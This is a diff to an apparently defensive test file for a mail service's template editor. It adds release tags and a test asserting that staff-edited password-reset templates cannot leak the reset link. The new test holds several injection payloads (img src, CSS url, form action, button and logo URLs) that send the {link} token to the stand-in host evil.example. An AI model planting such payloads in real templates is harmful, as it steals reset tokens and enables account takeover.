@@ -135,7 +135,7 @@ describe('the document of a mail', () => {
 })
 
 describe('finding mails', () => {
-  test('by person, by what they are about, by words, state and template', async () => {
+  test('by person, by what they are about, by words, state and template', { tags: 'release' }, async () => {
     const [owner, taker] = [await plaza.given.person(), await plaza.given.person()]
     const { id: assetTypeId } = await plaza.ok<{ id: string }>('POST', '/asset-types', {
       as: plaza.secret,
@@ -202,7 +202,7 @@ describe('sending again', () => {
     expect(results).toMatchObject([{ action: 'emailTools.resend' }])
   })
 
-  test('elsewhere takes a reason, and takes nothing secret along', async () => {
+  test('elsewhere takes a reason, and takes nothing secret along', { tags: 'release' }, async () => {
     const { person } = await resetMail()
     const text = 'See https://market.example/unsubscribe?token=k9XwQ2mPz7LrT4vB8nYc'
     const mail = await send(person.username, { text, headers: { 'List-Unsubscribe': '<https://x.example>' } })
@@ -246,7 +246,7 @@ test('a test goes to whoever asks for it, and to nobody else', async () => {
   expect((await ask(admin, { name: 'nothing', locale: 'en' })).body.code).toBe('email.templateUnknown')
 })
 
-test('whoever leaves is in no mail that was sent again, wherever it went', async () => {
+test('whoever leaves is in no mail that was sent again, wherever it went', { tags: 'release' }, async () => {
   const [person, other] = [await plaza.given.person(), await plaza.given.person()]
   await plaza.ok('POST', '/messages', { as: other, body: { receiverId: person.id, content: 'Hi', topicId: 'x' } })
   await jobsDone(plaza)
@@ -327,6 +327,48 @@ describe('templates', () => {
       { id, locale: 'en', problems: [{ field: 'subject', at: 6, value: 'nmae' }] },
     ])
     expect(template?.sent30d).toBeGreaterThan(0)
+    await plaza.ok('DELETE', `/entries/${id}`, { as: admin })
+  })
+
+  test('own words never take what lets somebody in to another server', async () => {
+    const content = await plaza.given.staff('staff-content')
+    const away = 'https://evil.example/?'
+    const resetAsSent = async () => {
+      const { person } = await resetMail()
+      const [sent] = await mailsAsSent(plaza, person.username)
+      return { subject: sent?.subject, html: sent?.html ?? '' }
+    }
+    const tried: JsonObject[] = [
+      { content: `<p>Hello</p><img src="${away}{link}">` },
+      { content: `<p>{serviceName, select, x {a} other {<a href="${away}{link}">b</a>}}</p>` },
+      { content: `<img src='${away}`, trailing_content: `'>` },
+      { content: `<style>p{'{'}background:url(${away}{link}){'}'}</style>` },
+      { header_title: `<form action="${away}"><textarea name="a">{link}</textarea></form>` },
+      { cta__button_url: `${away}{link}`, subject: 'Hello {link}' },
+      {
+        service_logo__url: `${away}{link}`,
+        notification_image__href: 'https://ok.example',
+        style__color_brand: '{link}',
+      },
+    ]
+    for (const fields of tried) {
+      const entry = { collection: 'email', locale: 'en', name: 'passwordReset', fields }
+      const { id } = await plaza.ok<{ id: string }>('POST', '/entries', { as: content, body: entry })
+      const sent = await resetAsSent()
+      const what = JSON.stringify(fields)
+      expect(sent.html, what).not.toContain('evil.example')
+      expect(sent.subject, what).toBe('Reset your Plaza password')
+      expect(sent.html, what).toMatch(/href="https:\/\/market\.example\/reset-password\?token=\w+"/)
+      const template = (await templates()).find(({ name }) => name === 'passwordReset')
+      expect(template?.overrides[0]?.problems.length, what).toBeGreaterThan(0)
+      await plaza.ok('DELETE', `/entries/${id}`, { as: admin })
+    }
+    const { body } = await look({ name: 'passwordReset', fields: tried[0] ?? {} }, content)
+    expect(body).toMatchObject({ code: 'email.fieldInvalid', data: { field: 'content' } })
+
+    const fields = { content: '<p>Open <a class="x" href="{link}">this</a>,<br/> or copy {link}</p>' }
+    const { id } = await write('passwordReset', fields)
+    expect((await resetAsSent()).html).toMatch(/Open <a class="x" href="https:\/\/market\.example\/reset-password/)
     await plaza.ok('DELETE', `/entries/${id}`, { as: admin })
   })
 
